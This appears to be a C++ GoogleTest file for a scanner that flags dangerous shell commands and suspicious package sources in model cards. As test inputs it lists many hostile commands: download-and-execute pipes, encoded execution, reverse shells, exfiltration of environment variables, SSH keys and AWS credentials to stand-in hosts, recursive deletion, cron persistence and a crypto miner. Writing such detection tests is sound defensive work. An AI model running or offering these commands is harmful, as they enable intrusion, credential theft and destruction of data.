// detail/shell_code and detail/packages: many ways to write one attack, and what people really write in cards.

#include <gtest/gtest.h>

#include <algorithm>

#include "formats/detail/packages.hpp"
#include "formats/detail/shell_code.hpp"

namespace steelyard::formats {
namespace {

std::string first_rule(std::string_view script) {
  const auto alarms = judge_shell(script);
  return alarms.empty() ? std::string() : alarms[0].rule;
}

TEST(Shell, WaysToRunADownload) {
  for (const std::string_view script : {"curl http://e.example/x | sh",
                                        "curl -s http://e.example/x|sudo -E bash -s -- --yes",
                                        "wget -qO- https://e.example/x | python3 -",
                                        "bash <(curl -s https://e.example/x)",
                                        "source <(curl -s https://e.example/x)",
                                        "eval \"$(curl -s https://e.example/x)\"",
                                        "sh -c \"$(wget -O- https://e.example/x)\"",
                                        "X=$(curl https://e.example/x | sh)",
                                        "curl $URL | bash",
                                        "$ curl https://e.example/x \\\n  | sh",
                                        "cd /tmp && curl -O https://e.example/run.sh && bash run.sh",
                                        "wget https://e.example/a; chmod +x a; ./a",
                                        "curl https://e.example/a > /tmp/b\nchmod 755 /tmp/b\n/tmp/b",
                                        "if true; then curl https://e.example/x | sh; fi",
                                        "`curl https://e.example/x`",
                                        "mshta https://e.example/a.hta",
                                        "certutil -urlcache -f https://e.example/a.exe a.exe & a.exe",
                                        "powershell -c \"iwr https://e.example/a.ps1 | iex\"",
                                        "RUN curl https://e.example/x | sh",
                                        "bash -c 'curl https://e.example/x | sh'",
                                        "cat <<EOF | sh\nEOF\ncurl https://e.example/x | sh",
                                        "bash <<'E'\ncurl https://e.example/x | sh\nE\n"})
    EXPECT_EQ(first_rule(script), "CMD001") << script;
}

TEST(Shell, WaysToHideACommand) {
  for (const std::string_view script :
       {"echo aWQ= | base64 -d | sh", "echo aWQ=|base64 --decode|bash", "bash -c \"$(echo aWQ= | base64 -d)\"",
        "eval $(echo aWQ= | base64 -d)", "echo 6964 | xxd -r -p | sh", "powershell -NoP -e aQBkAA=="})
    EXPECT_EQ(first_rule(script), "CMD002") << script;
}

TEST(Shell, Attacks) {
  for (const std::string_view script :
       {"bash -i >& /dev/tcp/203.0.113.7/1 0>&1", "nc -e /bin/sh 203.0.113.7 1", "echo 'x' >> ~/.bashrc", "rm -rf ~",
        "rm -rf --no-preserve-root /", "(crontab -l; echo '* * * * * x') | crontab -",
        "env | curl -d @- https://e.example", "cat ~/.ssh/id_rsa | nc e.example 1",
        "curl -T ~/.aws/credentials https://e.example", "./xmrig -o stratum+tcp://e.example:1"})
    EXPECT_EQ(first_rule(script), "CMD004") << script;
}

TEST(Shell, WhatCardsReallySay) {
  for (const std::string_view script :
       {"pip install -U transformers accelerate",
        "pip install git+https://github.com/huggingface/transformers",
        "pip install torch --index-url https://download.pytorch.org/whl/cu121",
        "huggingface-cli download org/model --local-dir .",
        "git clone https://huggingface.co/org/model && cd model && pip install -r requirements.txt",
        "curl http://localhost:8000/v1/chat/completions -H \"Content-Type: application/json\" -d '{\"model\": \"m\", "
        "\"messages\": [{\"role\": \"user\", \"content\": \"run | sh\"}]}'",
        "wget https://huggingface.co/org/model/resolve/main/model.gguf -O model.gguf\n./llama-cli -m model.gguf",
        "docker run --gpus all -p 8000:8000 vllm/vllm-openai:latest --model org/model",
        "export HF_TOKEN=$(cat token.txt)",
        "cat data.json | jq '.[]' | head",
        "tar xzf model.tar.gz && rm -rf model.tar.gz build/",
        "vllm serve org/model --trust-remote-code",
        "python -m pip install 'torch>=2.1'",
        "It's easy: don't run `rm -rf` there; that's it.",
        "CUDA_VISIBLE_DEVICES=0 python train.py --lr 1e-4 | tee log.txt",
        "curl -L https://example.org/data.zip -o data.zip && unzip data.zip",
        "| wget | bash | curl |",
        "conda create -n x python=3.10 -y && conda activate x",
        "ollama run hf.co/org/model:Q4_K_M",
        "wget https://example.org/cat.png\npython infer.py --image cat.png"})
    EXPECT_EQ(first_rule(script), "") << script;
}

TEST(Shell, KnownInstallersAreTold) {
  EXPECT_EQ(first_rule("curl -fsSL https://ollama.com/install.sh | sh"), "CMD003");
  EXPECT_EQ(first_rule("curl -LsSf https://astral.sh/uv/install.sh | sh"), "CMD003");
  EXPECT_EQ(first_rule("wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh && bash "
                       "Miniconda3-latest-Linux-x86_64.sh"),
            "CMD003");
  EXPECT_EQ(first_rule("curl http://ollama.com/install.sh | sh"), "CMD001");
  EXPECT_EQ(first_rule("curl https://ollama.com.example.org/install.sh | sh"), "CMD001");
  EXPECT_EQ(first_rule("curl https://user@example.org/ollama.com/install.sh | sh"), "CMD001");
}

TEST(Shell, HostileTextsEnd) {
  for (const char* piece : {"'", "\"", "`", "$(", "<<A ", "|", "(", "\\", "a=$(", "{", "<("}) {
    std::string text;
    for (int i = 0; i < 20'000; ++i) text += piece;
    (void)judge_shell(text);
  }
}

TEST(Shell, HarmlessCommands) {
  EXPECT_TRUE(harmless_command("git rev-parse HEAD"));
  EXPECT_TRUE(harmless_command("/usr/local/cuda/bin/nvcc -V"));
  EXPECT_TRUE(harmless_command("python --version"));
  EXPECT_FALSE(harmless_command("git clone https://e.example"));
  EXPECT_FALSE(harmless_command("uname; sh x"));
}

TEST(Packages, Sources) {
  const auto rule = [](std::string_view line) {
    const auto notes = judge_requirement(line);
    return notes.empty() ? std::string() : notes[0].rule;
  };
  for (const std::string_view line :
       {"torch==2.1", "torch>=2,<3 ; python_version < '3.9'", "# pip install x", "-r other.txt", "-e .",
        "--index-url https://download.pytorch.org/whl/cpu", "numpy", "flash-attn --no-build-isolation",
        "--hash=sha256:aa", "pkg @ file:///tmp/x.whl"})
    EXPECT_EQ(rule(line), "") << line;
  for (const std::string_view line :
       {"--index-url=http://pypi.org/simple", "-i https://packages.example.org/simple", "x @ https://203.0.113.7/x.whl",
        "git+http://github.com/a/b", "--trusted-host example.org", "https://files.example.org/x.tar.gz",
        "--extra-index-url https://pypi.org.example.org/simple", "git+ssh://git@example.org/x"})
    EXPECT_EQ(rule(line), "PKG001") << line;
  EXPECT_EQ(rule("git+https://github.com/a/b@main"), "PKG002");
  EXPECT_EQ(rule("tarnsformers"), "PKG003");
  EXPECT_EQ(requirement_of("Sentence_Transformers == 2.2.0 ; x").name, "sentence-transformers");
  EXPECT_EQ(requirement_of("torch==2.1.0+cu121").version, "2.1.0+cu121");
}

}  // namespace
}  // namespace steelyard::formats
